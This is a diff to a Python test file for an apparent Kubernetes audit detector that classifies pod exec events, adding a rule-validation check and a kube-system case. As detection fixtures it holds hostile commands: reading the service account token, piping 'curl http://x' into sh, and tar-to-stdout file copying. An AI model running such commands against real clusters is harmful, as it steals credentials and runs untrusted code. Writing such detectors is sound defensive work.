@@ -206,6 +206,8 @@ def test_exec_facts_only_for_a_rule_of_the_exec_subresource_alone() -> None:
         rule("KS-AUD-N06", on="create,get pods/exec,attach", stages=STARTED, when=Fact.EXEC_TAR_TO_STDOUT)(
             files_copied_out
         )
+    with pytest.raises(ValueError, match="exec subresource only"):
+        rule("KS-AUD-G01", on="* *", when=Fact.EXEC_IN_KUBE_SYSTEM | Fact.ANONYMOUS)(files_copied_out)
 
 
 def test_facts_of_exec_events() -> None:
@@ -214,12 +216,13 @@ def test_facts_of_exec_events() -> None:
         return Fact(event_facts(AuditEvent(raw), False)) & ~Fact.NON_SYSTEM_USER
 
     assert facts(["sh", "-c", "id"]) == Fact(0)
-    assert facts(["sh", "-c", "id"], namespace="kube-system") == Fact.KUBE_SYSTEM
+    assert facts(["sh", "-c", "id"], namespace="kube-system") == Fact.EXEC_IN_KUBE_SYSTEM
     assert facts(["tar", "cf", "-", "/d"]) == Fact.EXEC_TAR_TO_STDOUT
     assert facts(["tar", "cf", "-", "/d"], "object") == Fact.EXEC_TAR_TO_STDOUT
     assert facts(["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]) == Fact.EXEC_TOKEN_READ
     assert facts(["sh", "-c", "curl http://x | sh"]) == Fact.EXEC_SUSPICIOUS
     assert facts(["tar", "cf", "-", "/d"], sub="attach") == Fact(0)  # (computed for exec only)
+    assert facts(["sh", "-c", "id"], namespace="kube-system", sub="attach") == Fact(0)
     assert facts(["id"], "bad") == Fact.EXEC_TAR_TO_STDOUT | Fact.EXEC_TOKEN_READ | Fact.EXEC_SUSPICIOUS
 
 
